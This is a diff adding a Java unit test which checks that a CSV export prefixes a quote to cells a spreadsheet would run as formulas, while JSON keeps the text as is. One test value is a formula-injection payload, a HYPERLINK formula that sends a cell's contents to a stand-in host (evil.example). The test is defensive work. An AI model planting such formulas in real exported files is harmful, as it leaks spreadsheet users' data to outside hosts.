@@ -75,6 +75,37 @@ class OpenDataTest {
   }
 
   @Test
+  void csvNeutralisesTextThatASpreadsheetWouldRunAsAFormula() throws IOException {
+    TreeMap<String, City> cities = new TreeMap<>(content.cities());
+    City aarhus = cities.get("aarhus");
+    City bergen = cities.get("bergen");
+    City rijeka = cities.get("rijeka");
+    cities.put("aarhus", new City("aarhus", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Aarhus\")", aarhus.country(),
+        aarhus.membership(), null, null, false, "+1+2", "da", null, aarhus.positions()));
+    cities.put("bergen", new City("bergen", "@SUM(1,2)", bergen.country(), bergen.membership(), null, null, false,
+        "-2+3", "no", null, bergen.positions()));
+    cities.put("rijeka", new City("rijeka", "\t=1+2", rijeka.country(), rijeka.membership(), 128624L, 2011, false,
+        "\r=1+2", "hr", null, rijeka.positions()));
+    Content changed = new Content(content.site(), content.network(), content.categories(), content.countries(),
+        cities, content.pages());
+    String csv = new String(OpenData.csv(changed), StandardCharsets.UTF_8);
+    assertTrue(csv.contains(
+        "\r\naarhus,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Aarhus\"\")\",\"'+1+2\",DK,"), csv);
+    assertTrue(csv.contains("\r\nbergen,\"'@SUM(1,2)\",\"'-2+3\",NO,"), csv);
+    assertTrue(csv.contains("\r\nrijeka,\"'\t=1+2\",\"'\r=1+2\",HR,Croatia,true,partner,128624,2011,false,"), csv);
+    // a reader gets the text with the quote in front, and every other cell as it was
+    List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+        .parse(new StringReader(csv)).getRecords();
+    CSVRecord bergenRow = records.stream().filter(r -> r.get("slug").equals("bergen")).findFirst().orElseThrow();
+    assertEquals("'@SUM(1,2)", bergenRow.get("name"));
+    assertEquals("'-2+3", bergenRow.get("local_name"));
+    assertEquals(202, records.size());
+    // JSON is not run by any reader: it keeps the text as it is
+    String json = new String(OpenData.json(changed), StandardCharsets.UTF_8);
+    assertTrue(json.contains("\"name\" : \"@SUM(1,2)\""), json);
+  }
+
+  @Test
   void jsonHasTheSameRowsWithTypedValuesInColumnOrder() throws IOException {
     JsonNode rows = new ObjectMapper().readTree(OpenData.json(content));
     assertEquals(202, rows.size());
